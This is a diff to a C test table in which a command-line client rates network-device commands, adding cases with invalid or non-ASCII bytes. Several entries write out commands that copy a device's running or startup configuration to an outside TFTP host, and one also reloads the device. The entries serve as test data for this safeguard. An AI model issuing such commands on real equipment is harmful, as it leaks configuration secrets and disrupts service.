@@ -130,6 +130,10 @@ static const struct judged judged[] = {
     {"frobnicate", RUN},
     {"do", RUN},
     {"|", RUN},
+    /* no keyword and no alias has such bytes: the client refuses the line */
+    {"\xdf\xf0py system:running-config tftp://198.51.100.7/x", EMPTY},
+    {"do caf\xc3\xa9", EMPTY},
+    {"copy run tftp://198.51.100.7/caf\xc3\xa9", OUT},
     /* several lines in one slot: the gravest counts */
     {"copy run start\ncopy start tftp://198.51.100.7/x", OUT},
     {"copy run tftp://198.51.100.7/x\r\nreload", RUN},
